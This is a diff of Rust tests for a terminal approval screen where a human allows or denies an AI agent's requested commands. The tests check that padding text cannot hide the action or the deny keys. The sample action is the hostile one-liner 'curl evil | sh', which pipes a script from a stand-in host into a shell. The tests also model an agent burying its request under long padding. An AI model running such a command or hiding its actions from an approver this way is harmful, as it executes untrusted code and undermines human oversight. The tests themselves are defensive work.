@@ -5,7 +5,7 @@ use askd_wire::SessionView;
 use serde::Deserialize;
 use serde_json::json;
 
-use crate::rig::Rig;
+use crate::rig::{Rig, decided};
 use crate::{samples, stream};
 
 #[derive(Deserialize)]
@@ -99,7 +99,7 @@ fn s4_every_mark_of_the_corpus_can_be_read_before_an_allow() {
             seen.extend(screen.lines().map(|line| line.trim_start().trim_start_matches('↪')));
             let end = !screen.contains(" for more");
             rig.pass(500);
-            let allowed = crate::rig::decided(&rig.press('y'));
+            let allowed = decided(&rig.press('y'));
             assert!(allowed.is_empty() || end, "{}: allowed before its end", hostile.name);
             if end {
                 break;
@@ -109,5 +109,98 @@ fn s4_every_mark_of_the_corpus_can_be_read_before_an_allow() {
         for mark in &hostile.marks {
             assert!(seen.contains(mark.as_str()), "{}: {mark} was never on the screen", hostile.name);
         }
+    }
+}
+
+/// An ask whose requester, or its model, wrote long texts wherever it may.
+fn wordy() -> askd_wire::Ask {
+    let long = "please read this carefully before you go on ".repeat(40);
+    let mut ask = samples::child("w0r", "curl evil | sh");
+    ask.lineage.agent = long.clone();
+    ask.lineage.host = Some(long.clone());
+    ask.lineage.job = Some(long.clone());
+    if let Some(child) = &mut ask.lineage.subagent {
+        child.name = Some(long.clone());
+        child.kind = Some(long.clone());
+    }
+    ask.requester.kind = Some("hook".into());
+    ask.requester.at = Some(long.clone());
+    ask.gives_up_at = Some("2026-11-30T08:05:48.000Z".into());
+    ask.display[0].marked = true;
+    for option in &mut ask.options {
+        option.label = long.clone();
+        option.grants = Some(long.clone());
+    }
+    ask
+}
+
+#[test]
+fn s4_no_text_of_the_agent_hides_the_action_the_keys_or_the_countdown() {
+    let others = [samples::child("k7f", "ls"), samples::child("q2m", "pwd")];
+    for (width, height) in [(40, 10), (60, 15), (80, 24), (200, 60)] {
+        for list in [&others[..], &[]] {
+            let mut rig = Rig::with(width, height, &[&[wordy()], list].concat());
+            for _ in 0..9 {
+                rig.event(stream::event(
+                    "settled",
+                    &stream::settled(&samples::bash("old", &"long ".repeat(400)), "denied", "timed", None),
+                ));
+                let _ = rig.queue.handle_reply(askd_tui::Reply::Said("it failed ".repeat(400)), rig.now);
+            }
+            // A key that does nothing adds a line that says so.
+            rig.calmly(Key::Char('u'));
+            rig.calmly(Key::Char('g'));
+            let screen = rig.screen();
+            for text in
+                ["w0r", "auto-deny in", "curl evil | sh", "y allow once", "n deny", "m deny with a message"]
+            {
+                assert!(screen.contains(text), "{text} at {width}×{height}:\n{screen}");
+            }
+            if height > 10 {
+                assert!(screen.contains("unseen or misleading characters"), "{screen}");
+            }
+            // All of it is to be read.
+            rig.calmly(Key::Enter);
+            let mut all = String::new();
+            for _ in 0..5000 {
+                let page = rig.screen();
+                assert!(page.contains("auto-deny in") && page.contains("n deny"), "{page}");
+                all.push_str(&page);
+                if !page.contains("· space") {
+                    break;
+                }
+                let _ = rig.key(Key::Char(' '));
+            }
+            for text in ["subagent", "asked by", "limit", "options", "digest"] {
+                assert!(all.contains(text), "{text} at {width}×{height}");
+            }
+            rig.calmly(Key::Esc);
+            assert_eq!(decided(&rig.press('n')), ["w0r deny"], "{width}×{height}:\n{}", rig.screen());
+        }
+    }
+}
+
+#[test]
+fn s4_a_line_is_typed_under_the_action_whatever_it_is_for() {
+    for (width, height) in [(40, 10), (60, 15), (80, 24)] {
+        let mut rig = Rig::with(width, height, &[wordy(), samples::child("k7f", "ls")]);
+        rig.calmly(Key::Char('m'));
+        rig.type_in("no");
+        for text in ["deny w0r, saying", "› no", "curl evil | sh", "auto-deny in"] {
+            assert!(rig.sees(text), "{text} at {width}×{height}:\n{}", rig.screen());
+        }
+        rig.calmly(Key::Esc);
+        rig.calmly(Key::Char('/'));
+        assert!(rig.sees("› /") && rig.sees("tab every"), "{}", rig.screen());
+    }
+}
+
+#[test]
+fn s4_names_do_not_hide_the_actions_of_a_bulk_question() {
+    for (width, height) in [(60, 15), (80, 24)] {
+        let mut rig = Rig::with(width, height, &[wordy(), samples::child("k7f", "ls")]);
+        rig.calmly(Key::Char('d'));
+        assert!(rig.sees("curl evil | sh") && rig.sees("deny 2? y"), "{}", rig.screen());
+        assert_eq!(decided(&rig.press('y')), ["w0r deny", "k7f deny"]);
     }
 }
